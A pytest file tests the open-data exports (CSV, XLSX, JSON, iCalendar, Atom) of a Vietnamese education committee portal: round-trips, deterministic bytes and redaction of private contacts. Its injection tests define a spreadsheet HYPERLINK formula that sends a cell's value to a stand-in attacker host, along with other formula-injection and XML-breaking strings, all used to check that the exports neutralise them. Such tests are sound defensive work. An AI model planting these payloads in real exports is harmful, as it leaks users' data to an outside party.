"""Open-data exports built from the real data, parsed back and compared to the model:
CSV, XLSX, JSON of the year, iCalendar of the plans, Atom feed of the documents.
Also: the same data gives the same bytes, and no private value is ever written."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import posixpath
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import icalendar
import openpyxl
import pytest

from conftest import REPO, Dataset
from portal import calendar as ical
from portal import exports, feed, sanitize, terms, vocab, wording
from portal.dates import SchoolYear
from portal.importer import import_roster
from portal.load import load_or_raise
from portal.model import Body, Membership, Portal
from portal.privacy import REDACTED
from portal.schema import FILE_SCHEMAS
from portal.urls import UrlFormats

SITE = "https://so-lieu.example.vn/cot-can/"
URLS = UrlFormats()
ATOM = "{http://www.w3.org/2005/Atom}"
Y2024 = SchoolYear(2024)


@pytest.fixture(scope="session")
def portal(repo_portal: Portal) -> Portal:
    return repo_portal


@pytest.fixture(scope="module")
def files(portal: Portal) -> dict[str, bytes]:
    return {**exports.export_files(portal, URLS), **ical.calendar_files(portal, URLS, SITE),
            **feed.feed_files(portal, URLS, SITE)}


def rostered(portal: Portal) -> list[Body]:
    return [b for b in portal.bodies.values() if portal.roster(b)]


def every_row(portal: Portal, body: Body) -> list[Membership]:
    """The rows of a list over the year: as first signed, and as amending decisions changed it."""
    return [term.member for _, term in terms.roster_terms(portal, body)]


def expected_row(portal: Portal, m: Membership, year: SchoolYear) -> tuple[str, str, str]:
    """STT, name and "Chức vụ - Đơn vị công tác" of a membership, from the model: a school
    by its name in the list's year."""
    if m.person:
        name = portal.people[m.person].name
    else:
        assert m.school
        name = wording.school_name(portal.schools[m.school], year)
    if m.as_written:
        post = m.as_written
    else:
        unit = (wording.school_name(portal.schools[m.unit], year) if m.unit in portal.schools
                else portal.offices[m.unit].short_name if m.unit else "")
        post = " - ".join(p for p in (m.position or "", unit) if p)
    return ("" if m.stt is None else str(m.stt)), name, post


# Paths


def test_every_roster_and_year_has_its_files_next_to_its_page(portal: Portal, files: dict[str, bytes]) -> None:
    for body in rostered(portal):
        folder = URLS.body.format(body=body.id, year=body.school_year)
        assert folder + "danh-sach.csv" in files
        assert folder + "danh-sach.xlsx" in files
    for year in portal.school_years:
        assert URLS.year.format(year=year) + "du-lieu.json" in files
    assert "to-chuc/dbp-to-cot-can-thcs-gv/2024-2025/danh-sach.csv" in files
    assert "nam-hoc/2024-2025/pgddt-cu-chi.ics" in files
    assert "van-ban/atom.xml" in files
    assert all(not path.startswith("/") and ".." not in path for path in files)


# CSV


def test_csv_parses_back_to_the_roster(portal: Portal) -> None:
    for body in rostered(portal):
        data = exports.roster_csv(portal, body)
        assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so that Excel reads Vietnamese"
        assert data.count(b"\r\n") == data.count(b"\n"), "CRLF line endings"
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert tuple(rows[0]) == ("STT", "Họ và tên", "Chức vụ - Đơn vị công tác", "Môn", "Ghi chú",
                                  "Từ ngày", "Đến ngày", "Theo văn bản")
        roster = every_row(portal, body)
        assert len(rows) - 1 == len(roster)
        for row, m in zip(rows[1:], roster, strict=True):
            assert tuple(row[:3]) == expected_row(portal, m, body.school_year)
            if m.subject:
                assert row[3] == m.subject
            if m.note:
                assert row[4] == m.note
            elif m.role not in ("uy-vien", "thanh-vien"):
                # The role as printed, a slip with the standard title beside it.
                note = wording.role_as_printed_note(m)
                printed = m.role_text or vocab.ROLES[m.role]
                assert row[4] == (f"{printed} ({note})" if note else printed)


def test_csv_of_the_dien_bien_phu_teachers(portal: Portal) -> None:
    body = portal.bodies[(Y2024, "dbp-to-cot-can-thcs-gv")]
    rows = list(csv.reader(io.StringIO(exports.roster_csv(portal, body).decode("utf-8-sig"))))
    numbered = [r for r in rows[1:] if r[0]]
    assert [int(r[0]) for r in numbered] == list(range(1, 77))
    # No amending decision: no "Từ ngày" nor "Đến ngày"; the decision as printed ("Số: /QĐ-PGDĐT"),
    # the figure left blank read as a gap.
    assert numbered[0] == ["1", "Tạ Thị Nành", "Giáo viên - THCS Nam Thanh- tăng cường chuyên môn Phòng GD-ĐT",
                           "Ngữ văn-GDĐP", "Nhóm trưởng", "", "", "Quyết định số …/QĐ-PGDĐT"]
    assert numbered[10][4] == "P.Nhóm trưởng"
    assert rows[1] == ["", "Lê Thị Hồng", "Trưởng Phòng Giáo dục - Đào tạo", "", "Tổ trưởng", "", "",
                       "Quyết định số …/QĐ-PGDĐT"]


def test_a_cluster_lists_its_schools_by_name(portal: Portal) -> None:
    body = portal.bodies[(Y2024, "cc-cum-01")]
    rows = exports.roster_rows(portal, body)
    schools = [r for r in rows if r[0]]
    assert len(schools) == 12
    assert schools[0][1] == portal.schools["cc-thcs-tan-phu-trung"].name
    assert rows[0][4] == "Cụm trưởng"


# XLSX


def test_xlsx_parses_back_to_the_roster(portal: Portal) -> None:
    for body in rostered(portal):
        book = openpyxl.load_workbook(io.BytesIO(exports.roster_xlsx(portal, body)))
        sheet = book.active
        assert sheet is not None
        values = list(sheet.iter_rows(values_only=True))
        assert values[0][0] == f"DANH SÁCH {body.name} năm học {body.school_year}"
        header = next(i for i, row in enumerate(values) if row[0] == "STT")
        assert values[header] == exports.ROSTER_COLUMNS
        assert all(cell.font.b for cell in sheet[header + 1])
        rows = [tuple("" if v is None else str(v) for v in row) for row in values[header + 1:]]
        assert rows == exports.roster_rows(portal, body)
        roster = every_row(portal, body)
        for row, m in zip(values[header + 1:], roster, strict=True):
            assert row[0] == m.stt
            assert (row[1], row[2] or "") == expected_row(portal, m, body.school_year)[1:]
        decision = portal.documents[body.decision]
        assert decision.date is not None
        assert book.properties.created == book.properties.modified
        assert book.properties.created.date() == decision.date.first_day


def test_xlsx_has_no_build_time_in_it(portal: Portal) -> None:
    body = portal.bodies[(Y2024, "dbp-to-cot-can-thcs-cbql")]
    data = exports.roster_xlsx(portal, body)
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    core = archive.read("docProps/core.xml").decode()
    assert re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core) == ["2024-01-01T00:00:00Z"] * 2


def test_a_text_that_looks_like_a_formula_stays_text(portal: Portal) -> None:
    body = portal.bodies[(Y2024, "dbp-to-cot-can-thcs-cbql")]
    first = body.members[2]
    tricky = Body(**{**body.__dict__, "members": (first.__class__(**{**first.__dict__, "note": "=1+1"}),)})
    book = openpyxl.load_workbook(io.BytesIO(exports.roster_xlsx(portal, tricky)))
    sheet = book.active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value == "=1+1"]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_role_read_apart_from_the_remark_comes_first_in_ghi_chú(portal: Portal, tmp_path: Path) -> None:
    """A role read from a "Vai trò" column beside a remark in "Ghi chú": the download said the remark
    only, and a group's leader could not be told there (a clerk's review). The XLSX imports back with it."""
    body = next(b for b in portal.bodies.values() if b.office == "pgddt-dien-bien-phu"
                and any(m.role == "nhom-truong" and m.person for m in b.members))
    remark = "Giáo viên dạy giỏi cấp tỉnh"
    members = tuple(dataclasses.replace(m, note=remark) if m.role == "nhom-truong" else m for m in body.members)
    remarked = dataclasses.replace(body, members=members)
    rows = list(csv.reader(io.StringIO(exports.roster_csv(portal, remarked).decode("utf-8-sig"))))
    leaders = [m for m in members if m.role == "nhom-truong"]
    note = exports.ROSTER_COLUMNS.index("Ghi chú")
    assert [row[note] for row in rows[1:] if remark in row[note]] == [
        f"{wording.role_as_read(m)}; {remark}" for m in leaders]
    path = tmp_path / "danh-sach.xlsx"
    path.write_bytes(exports.roster_xlsx(portal, remarked))
    result = import_roster(portal, body.office, path, year=body.school_year, body=body.id)
    assert [r.role for r in result.rows if r.note and remark in r.note] == ["nhom-truong"] * len(leaders)


# JSON


def test_year_json_holds_the_whole_year(portal: Portal) -> None:
    for year in portal.school_years:
        data = json.loads(exports.year_json(portal, year))
        assert data["school_year"] == year.label
        bodies = list(portal.bodies_in(year))
        assert [b["id"] for b in data["bodies"]] == [b.id for b in bodies]
        for got, body in zip(data["bodies"], bodies, strict=True):
            assert [m["person"] for m in got["members"]] == [m.person for m in body.members]
            assert [m["stt"] for m in got["members"]] == [m.stt for m in body.members]
            assert [m["role"] for m in got["members"]] == [m.role for m in body.members]
        office_years = [oy for oy in portal.office_years if oy.school_year == year]
        doc_ids = {d["id"] for d in data["documents"]}
        assert {d for oy in office_years for d in oy.documents} <= doc_ids
        people = {p["id"]: p for p in data["people"]}
        assert {m.person for b in bodies for m in b.members if m.person} <= set(people)
        for p in data["people"]:
            assert set(p) == {"id", "name", "honorific", "sort_name", "contact", "note"}
            assert p["contact"] == portal.people[p["id"]].public_contact
        offices = {o["id"] for o in data["offices"]}
        assert {oy.office for oy in office_years} <= offices
        assert all(o["parent"] in offices for o in data["offices"] if o["parent"])
        schools = {s["id"] for s in data["schools"]}
        assert {m.unit for b in bodies for m in b.members if m.unit in portal.schools} <= schools
        assert {m.school for b in bodies for m in b.members if m.school} <= schools


def test_year_json_of_dien_bien_phu(portal: Portal) -> None:
    data = json.loads(exports.year_json(portal, Y2024))
    teachers = {b["id"]: b for b in data["bodies"]}["dbp-to-cot-can-thcs-gv-toan"]
    assert teachers["subject"] == "toan"
    assert teachers["members"][0]["person"] == "dbp-ha-thi-lien"
    assert teachers["members"][0]["role"] == "nhom-truong"
    doc = {d["id"]: d for d in data["documents"]}["cc-2024-hd-1671"]
    assert [a["due"] for a in doc["activities"] if a["due"]] == ["2024-12-20", "2025-05-16", "2025-05-16"]


def test_year_json_is_sorted_and_readable(portal: Portal) -> None:
    text = exports.year_json(portal, Y2024).decode("utf-8")
    assert "Hà Thị Liên" in text  # ensure_ascii=False
    assert text.endswith("\n")
    data = json.loads(text)
    assert json.dumps(data, ensure_ascii=False, sort_keys=True, indent=1) + "\n" == text


# iCalendar


def unfold(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    assert "\n" not in text.replace("\r\n", ""), "every line ends with CRLF"
    return text.replace("\r\n ", "").split("\r\n")[:-1]


def unescape(value: str) -> str:
    return re.sub(r"\\(.)", lambda m: "\n" if m.group(1) in "nN" else m.group(1), value)


def events(data: bytes) -> list[dict[str, str]]:
    found: list[dict[str, str]] = []
    current: dict[str, str] | None = None
    for line in unfold(data):
        if line == "BEGIN:VEVENT":
            current = {}
        elif line == "END:VEVENT":
            assert current is not None
            found.append(current)
            current = None
        elif current is not None:
            name, value = line.split(":", 1)
            current[name] = value
    return found


def test_cu_chi_calendar_has_the_report_deadlines(portal: Portal, files: dict[str, bytes]) -> None:
    data = files["nam-hoc/2024-2025/pgddt-cu-chi.ics"]
    lines = unfold(data)
    assert lines[0] == "BEGIN:VCALENDAR" and lines[-1] == "END:VCALENDAR"
    assert "VERSION:2.0" in lines
    found = events(data)
    assert data.count(b"BEGIN:VEVENT") == len(found) == 3
    assert [e["DTSTART;VALUE=DATE"] for e in found] == ["20241220", "20250516", "20250516"]
    assert [e["DTEND;VALUE=DATE"] for e in found] == ["20241221", "20250517", "20250517"]
    assert unescape(found[0]["SUMMARY"]) == "Hạn: Báo cáo sơ kết cuối học kỳ I"
    assert all(e["DTSTAMP"] == "20240913T000000Z" for e in found)
    assert found[0]["URL"] == SITE + "van-ban/cc-2024-hd-1671/"
    assert "Cụm 01, Cụm 02" in unescape(found[0]["DESCRIPTION"])


def test_periods_span_whole_months(portal: Portal, files: dict[str, bytes]) -> None:
    found = events(files["nam-hoc/2023-2024/pgddt-dau-tieng.ics"])
    periods = {(e["DTSTART;VALUE=DATE"], e["DTEND;VALUE=DATE"]) for e in found}
    assert ("20230901", "20240201") in periods  # 2023-09 .. 2024-01
    assert ("20240701", "20241001") in periods  # 2024-07 .. 2024-09
    kien_giang = events(files["nam-hoc/2019-2020/so-gddt-kien-giang.ics"])
    assert [(e["DTSTART;VALUE=DATE"], e["DTEND;VALUE=DATE"]) for e in kien_giang] == [("20200701", "20200801")]
    assert ("20231005", "20231006") in [(e["DTSTART;VALUE=DATE"], e["DTEND;VALUE=DATE"]) for e in found]


def test_every_dated_activity_is_an_event_with_a_stable_uid(portal: Portal, files: dict[str, bytes]) -> None:
    uids: list[str] = []
    for oy in portal.office_years:
        path = ical.calendar_path(oy, URLS)
        dated = [a for d in oy.documents for a in portal.documents[d].activities
                 if a.due or a.start or a.end]
        if not dated:
            assert path not in files
            continue
        found = events(files[path])
        expected = sum((1 if a.due else 0) + (1 if a.start or a.end else 0) for a in dated)
        assert len(found) == expected
        titles = [unescape(e["SUMMARY"]).removeprefix("Hạn: ") for e in found]
        assert titles == [a.title for a in dated for _ in range((1 if a.due else 0) + (1 if a.start or a.end else 0))]
        uids += [e["UID"] for e in found]
    assert len(uids) == len(set(uids))
    assert "cc-2024-hd-1671-6@portal-cot-can" in uids


def test_ics_lines_are_folded_at_75_octets(files: dict[str, bytes]) -> None:
    for path, data in files.items():
        if path.endswith(".ics"):
            for line in data.split(b"\r\n"):
                assert len(line) <= 75, (path, line)
                line.decode("utf-8")  # never cut inside a character


def test_ics_text_escaping_and_folding() -> None:
    assert ical.escape_text("a,b;c\\d\ne") == "a\\,b\\;c\\\\d\\ne"
    long = "SUMMARY:" + "Báo cáo sơ kết, tổng kết; " * 10
    folded = ical.fold_line(long)
    assert all(len(part.encode()) <= 75 for part in folded.split("\r\n"))
    assert folded.replace("\r\n ", "") == long


# Atom


def test_atom_feed_lists_documents_newest_first(portal: Portal, files: dict[str, bytes]) -> None:
    root = ET.fromstring(files["van-ban/atom.xml"])
    assert root.tag == f"{ATOM}feed"
    entries = root.findall(f"{ATOM}entry")
    published = [d for d in portal.documents.values() if d.school_year is not None]
    assert len(entries) == len(published)
    ids = [e.findtext(f"{ATOM}id") for e in entries]
    assert len(set(ids)) == len(ids) and all(i and i.startswith("urn:uuid:") for i in ids)
    updated = [e.findtext(f"{ATOM}updated") or "" for e in entries]
    assert updated == sorted(updated, reverse=True)
    assert root.findtext(f"{ATOM}updated") == updated[0]
    by_link = {}
    for entry in entries:
        link = entry.find(f"{ATOM}link")
        assert link is not None and link.get("rel") == "alternate"
        href = link.get("href") or ""
        assert href.startswith(SITE + "van-ban/")
        by_link[href.removeprefix(SITE)] = entry
    for doc in published:
        entry = by_link[URLS.document.format(document=doc.id)]
        assert entry.findtext(f"{ATOM}id") == feed.entry_id(doc)
        assert doc.title in (entry.findtext(f"{ATOM}title") or "")
        assert doc.date is None or (entry.findtext(f"{ATOM}updated") or "").startswith(doc.date.first_day.isoformat())
    cu_chi = by_link["van-ban/cc-2024-hd-1671/"]
    assert cu_chi.findtext(f"{ATOM}updated") == "2024-09-13T00:00:00+07:00"
    self_link = [lk for lk in root.findall(f"{ATOM}link") if lk.get("rel") == "self"]
    assert self_link[0].get("href") == SITE + "van-ban/atom.xml"


def test_atom_feed_without_site_url_links_relatively(portal: Portal) -> None:
    root = ET.fromstring(feed.feed_bytes(portal, URLS, ""))
    folder = posixpath.dirname(feed.feed_path(URLS))
    links = [e.find(f"{ATOM}link") for e in root.findall(f"{ATOM}entry")]
    targets = {posixpath.normpath(posixpath.join(folder, lk.get("href") or "")) + "/" for lk in links if lk is not None}
    assert targets == {URLS.document.format(document=d.id) for d in feed.published_documents(portal)}


# Determinism and privacy


def test_same_data_same_bytes(portal: Portal, files: dict[str, bytes]) -> None:
    again, _ = load_or_raise(REPO / "data", REPO)
    second = {**exports.export_files(again, URLS), **ical.calendar_files(again, URLS, SITE),
              **feed.feed_files(again, URLS, SITE)}
    assert second.keys() == files.keys()
    for path in files:
        assert second[path] == files[path], path


def texts(path: str, data: bytes) -> list[str]:
    if path.endswith(".xlsx"):
        archive = zipfile.ZipFile(io.BytesIO(data))
        return [archive.read(name).decode("utf-8") for name in archive.namelist()]
    return [data.decode("utf-8")]


def test_no_private_value_in_any_export(portal: Portal, files: dict[str, bytes]) -> None:
    private = portal.private_values()
    assert private, "the data has private contacts to keep out"
    for path, data in files.items():
        for text in texts(path, data):
            for value in private:
                assert value not in text, (path, value)
    # The documents that quote a private phone or e-mail are exported with it hidden.
    assert REDACTED in files["nam-hoc/2023-2024/du-lieu.json"].decode("utf-8")
    assert REDACTED in files["nam-hoc/2024-2025/du-lieu.json"].decode("utf-8")


def test_a_private_value_in_a_roster_is_hidden_in_csv_and_xlsx(dataset: Dataset) -> None:
    """Loaded from YAML like a clerk's data: the list's cells write the private phone in
    other forms; the model is redacted at load, so the exports never see it."""
    members = dataset.year["bodies"][1]["members"]
    members[1].update({"as_written": "Giáo viên - THCS Hai (ĐT 0912-944-718)", "note": "+84 912 944 718"})
    portal, _ = load_or_raise(dataset.write(), dataset.root)
    group = portal.bodies[(Y2024, "a-to-toan")]
    csv_text = exports.roster_csv(portal, group).decode("utf-8-sig")
    xlsx_text = "".join(texts("x.xlsx", exports.roster_xlsx(portal, group)))
    for text in (csv_text, xlsx_text):
        assert re.sub(r"\D", "", text).count("912944718") == 0
        assert f"Giáo viên - THCS Hai (ĐT {REDACTED})" in text and REDACTED in text


# Injection: formulas in CSV and XLSX, characters that break XML and iCalendar

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def test_csv_cells_never_start_a_formula_and_real_values_stay_as_they_are() -> None:
    for value in (FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-x"):
        assert sanitize.csv_cell(value) == "'" + value
    for value in ("-", "--", "—", "-5", "+3,5", "-12.75", "1/QĐ-UBND", "Nhóm trưởng", "", " =1"):
        assert sanitize.csv_cell(value) == value


def test_a_formula_in_a_list_is_text_in_the_csv_and_in_the_xlsx(dataset: Dataset) -> None:
    members = dataset.year["bodies"][1]["members"]
    members[0].update({"as_written": FORMULA, "note": "-"})
    members[1].update({"note": "@SUM(A1:A9)", "position": "-x", "subject": "-5"})
    portal, _ = load_or_raise(dataset.write(), dataset.root)
    group = portal.bodies[(Y2024, "a-to-toan")]
    raw = exports.roster_csv(portal, group).decode("utf-8-sig")
    assert all(line.startswith('"') for line in raw.split("\r\n") if line), "every cell quoted (OWASP)"
    rows = list(csv.reader(io.StringIO(raw)))
    # The leader's remark follows the role (roster_rows); the plain member's starts its cell.
    assert rows[1][2] == "'" + FORMULA and rows[1][4] == "Nhóm trưởng; -"
    assert rows[2][4] == "'@SUM(A1:A9)" and rows[2][2] == "'-x - THCS Hai" and rows[2][3] == "-5"
    data = exports.roster_xlsx(portal, group)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == FORMULA)
    assert cell.data_type == "s"  # the value as it is, a string, never a formula
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    assert not any("hyperlink" in xml.lower() for xml in sheets)


# Characters XML 1.0 forbids (and RFC 5545 with them): the checker refuses them at load;
# the writers drop them anyway, so a feed or a calendar is never unreadable.
FORBIDDEN = "\ufffe\uffff\x00\x01\x08\x0b\x0c\x1b\x7f\ud800"


def hostile_titles(portal: Portal, text: str) -> Portal:
    """The model with `text` in every document's title and every activity's texts, built
    directly (as if the checker had let it through)."""
    documents = {}
    for key, doc in portal.documents.items():
        activities = tuple(dataclasses.replace(a, title=a.title + text, details=text) for a in doc.activities)
        documents[key] = dataclasses.replace(doc, title=doc.title + text, number=f"1{text}", activities=activities)
    return dataclasses.replace(portal, documents=documents)


def assert_rfc5545(data: bytes) -> icalendar.Calendar:
    """A calendar a strict reader accepts: CRLF lines of at most 75 octets, no control
    character but the tab, every line `NAME[;PARAM]:VALUE`, parsed by `icalendar` with no
    error in any component."""
    assert data.endswith(b"\r\n") and b"\n" not in data.replace(b"\r\n", b"")
    for line in data.split(b"\r\n")[:-1]:
        assert len(line) <= 75, line
        assert not re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", line), line
        text = line.decode("utf-8")
        assert text.startswith(" ") or re.match(r"[A-Z][A-Z0-9-]*[;:]", text), line
    calendar = icalendar.Calendar.from_ical(data)
    assert [(c.name, c.errors) for c in calendar.walk() if c.errors] == []
    return calendar


def test_the_feed_and_calendars_stay_valid_whatever_the_text(portal: Portal) -> None:
    hostile = hostile_titles(portal, "<x>&amp;]]>\"'" + FORBIDDEN + ";,\\\n\r")
    root = ET.fromstring(feed.feed_bytes(hostile, URLS, SITE))
    titles = [e.findtext(f"{ATOM}title") or "" for e in root.findall(f"{ATOM}entry")]
    assert titles and all("<x>&amp;]]>\"'" in t and not re.search("[\ufffe\uffff\x00-\x08]", t) for t in titles)
    calendars = ical.calendar_files(hostile, URLS, SITE)
    assert calendars
    for data in calendars.values():
        events = assert_rfc5545(data).walk("VEVENT")
        assert events and all("<x>&amp;]]>" in str(e.get("SUMMARY")) for e in events)


def test_every_feed_and_calendar_of_a_build_parses(repo_site: Path) -> None:
    feeds = sorted(repo_site.rglob("atom.xml"))
    calendars = sorted(repo_site.rglob("*.ics"))
    assert feeds and len(calendars) >= 3
    for path in feeds:
        assert ET.parse(path).getroot().tag == f"{ATOM}feed"
    for path in calendars:
        assert assert_rfc5545(path.read_bytes()).walk("VEVENT"), path


def test_xlsx_stt_is_a_number_and_every_other_cell_a_string(portal: Portal, dataset: Dataset) -> None:
    """STT is a number cell, as Excel sorts it (2 before 10; the data holds whole numbers only);
    every text is a string cell, even one made of digits (a note "12", a subject "10")."""
    def cells(data: bytes) -> list[list[openpyxl.cell.Cell]]:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert sheet is not None
        rows = [list(row) for row in sheet.iter_rows()]
        header = next(i for i, row in enumerate(rows) if row[0].value == "STT")
        return rows[header + 1:]

    assert FILE_SCHEMAS["year"]["properties"]["bodies"]["items"]["properties"]["members"]["items"][
        "properties"]["stt"]["type"] == "integer"
    for body in rostered(portal):
        rows = cells(exports.roster_xlsx(portal, body))
        for row, m in zip(rows, every_row(portal, body), strict=True):
            assert (row[0].data_type, row[0].value) == ("n", m.stt)  # no number: an empty cell
            assert all(c.data_type == "s" for c in row[1:] if c.value is not None)
    members = dataset.year["bodies"][1]["members"]
    members[1].update({"note": "12", "subject": "10"})
    got, _ = load_or_raise(dataset.write(), dataset.root)
    row = cells(exports.roster_xlsx(got, got.bodies[(Y2024, "a-to-toan")]))[1]
    assert (row[0].data_type, row[0].value) == ("n", members[1]["stt"])
    assert [(c.value, c.data_type) for c in row if c.value in ("10", "12")] == [("10", "s"), ("12", "s")]
